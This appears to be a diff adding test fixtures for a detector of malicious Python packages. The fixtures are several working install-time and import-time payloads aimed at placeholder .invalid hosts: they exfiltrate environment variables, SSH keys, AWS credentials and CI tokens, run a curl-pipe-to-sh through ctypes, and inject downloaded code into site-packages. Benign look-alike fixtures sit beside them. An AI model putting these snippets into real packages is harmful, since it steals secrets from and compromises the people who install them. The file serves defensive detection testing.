@@ -1,0 +1,114 @@
+"""Ways data leaves or commands run that are not requests/urllib/subprocess: XML-RPC,
+asyncio streams, FTP, SMTP, UDP, libc's system() through ctypes, and writes that make
+code run later (into another installed package, a .pth in site-packages)."""
+
+from __future__ import annotations
+
+from techniques import Case
+
+
+def _init(name: str, body: str) -> dict[str, str | bytes]:
+    return {f"{name}/__init__.py": body}
+
+
+CASES = [
+    Case("XML-RPC call carrying the environment at import", "xmlrpcx", _init(
+        "xmlrpcx", "import os, xmlrpc.client\n\n"
+                   "xmlrpc.client.ServerProxy('https://rpc.x.invalid/').put(dict(os.environ))\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    Case("asyncio stream writes the SSH key at import", "asyncsend", _init(
+        "asyncsend",
+        "import asyncio, os\n\n\nasync def _go():\n"
+        "    r, w = await asyncio.open_connection('k.x.invalid', 443, ssl=True)\n"
+        "    w.write(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
+        "    await w.drain()\n\n\n"
+        "try:\n    asyncio.run(_go())\nexcept OSError:\n    pass\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    Case("FTP upload of AWS credentials in setup.py", "ftpsteal", {
+        "setup.py": (
+            "import ftplib, os\nfrom setuptools import setup\n\n"
+            "try:\n    ftp = ftplib.FTP('ftp.x.invalid', 'anonymous', 'a@b')\n"
+            "    with open(os.path.expanduser('~/.aws/credentials'), 'rb') as fh:\n"
+            "        ftp.storbinary('STOR c.txt', fh)\nexcept Exception:\n    pass\n"
+            "setup(name='ftpsteal', version='1.0')\n"),
+    }, "malicious", ("PV303",)),
+    Case("SMTP mail of CI tokens at import", "smtpsteal", _init(
+        "smtpsteal",
+        "import os, smtplib\n\n"
+        "body = 'GH=%s NPM=%s' % (os.environ.get('GITHUB_TOKEN'), os.environ.get('NPM_TOKEN'))\n"
+        "try:\n    with smtplib.SMTP('mx.x.invalid', 25, timeout=3) as s:\n"
+        "        s.sendmail('a@x.invalid', ['b@x.invalid'], body)\nexcept OSError:\n    pass\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    Case("UDP datagram with host and user at install", "udpbeacon", {
+        "setup.py": (
+            "import getpass, socket\nfrom setuptools import setup\n\n"
+            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+            "s.sendto(('%s|%s' % (socket.gethostname(), getpass.getuser())).encode(), "
+            "('u.x.invalid', 53))\n"
+            "setup(name='udpbeacon', version='1.0')\n"),
+    }, "malicious", ("PV304",)),
+    Case("libc system() through ctypes runs a download-and-run", "libcsystem", _init(
+        "libcsystem", "import ctypes, ctypes.util\n\n"
+                      "libc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
+                      "libc.system(b'curl -s https://l.x.invalid/x.sh | sh')\n"),
+        "malicious", ("PV302",), kind="wheel"),
+    Case("setup.py appends downloaded code to another installed package", "infectpkg", {
+        "setup.py": (
+            "import os, sysconfig, urllib.request\nfrom setuptools import setup\n\n"
+            "target = os.path.join(sysconfig.get_paths()['purelib'], 'requests', "
+            "'__init__.py')\n"
+            "if os.path.exists(target):\n"
+            "    code = urllib.request.urlopen('https://i.x.invalid/s').read()\n"
+            "    with open(target, 'ab') as fh:\n"
+            "        fh.write(b'\\n' + code)\n"
+            "setup(name='infectpkg', version='1.0')\n"),
+    }, "malicious", ("PV401",)),
+    Case("setup.py drops a .pth into site-packages with downloaded lines", "dropth", {
+        "setup.py": (
+            "import os, site, urllib.request\nfrom setuptools import setup\n\n"
+            "target = os.path.join(site.getsitepackages()[0], 'zz-dropth.pth')\n"
+            "with open(target, 'wb') as fh:\n"
+            "    fh.write(urllib.request.urlopen('https://d.x.invalid/p').read())\n"
+            "setup(name='dropth', version='1.0')\n"),
+    }, "malicious", ("PV401",)),
+    Case("raw socket send of the SSH key at import", "socksend", _init(
+        "socksend", "import os, socket\n\ns = socket.socket()\ns.connect(('k.x.invalid', 443))\n"
+                    "s.send(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    Case("urllib opener posting the environment", "openerpost", _init(
+        "openerpost", "import os, urllib.request\n\nop = urllib.request.build_opener()\n"
+                      "op.open('https://k.x.invalid/u', data=repr(dict(os.environ)).encode())\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    # benign look-alikes
+    Case("mail helper that sends what the user passes", "mailhelp", _init(
+        "mailhelp", "import smtplib\nfrom email.message import EmailMessage\n\n\n"
+                    "def send(host, sender, to, subject, text):\n"
+                    "    msg = EmailMessage()\n    msg['From'], msg['To'] = sender, to\n"
+                    "    msg['Subject'] = subject\n    msg.set_content(text)\n"
+                    "    with smtplib.SMTP(host) as s:\n        s.send_message(msg)\n"),
+        "benign", kind="wheel"),
+    Case("XML-RPC client for the package index, user-called", "pypirpc", _init(
+        "pypirpc", "import xmlrpc.client\n\n\n"
+                   "def releases(name):\n"
+                   "    proxy = xmlrpc.client.ServerProxy('https://pypi.org/pypi')\n"
+                   "    return proxy.package_releases(name)\n"), "benign", kind="wheel"),
+    Case("setup.py writing a path-only .pth into site-packages", "pathwriter", {
+        "setup.py": (
+            "import os, site, sysconfig\nfrom setuptools import setup\n\n"
+            "here = os.path.abspath(os.path.dirname(__file__))\n"
+            "with open(os.path.join(site.getsitepackages()[0], 'pathwriter.pth'), 'w') as fh:\n"
+            "    fh.write(os.path.join(here, 'lib') + '\\n')\n"
+            "setup(name='pathwriter', version='1.0', packages=['pathwriter'])\n"),
+        "pathwriter/__init__.py": "",
+    }, "benign"),
+    Case("ctypes loading libc for getpid and a site-packages path for a .pth", "libcok", {
+        "setup.py": (
+            "import os, site\nfrom setuptools import setup\n\n"
+            "setup(name='libcok', version='1.0', packages=['libcok'],\n"
+            "      data_files=[('', ['libcok.pth'])])\n"),
+        "libcok.pth": "libcok/vendor\n",
+        "libcok/__init__.py": ("import ctypes, ctypes.util\n\n"
+                               "_libc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
+                               "PID = _libc.getpid()\n"),
+    }, "benign"),
+]
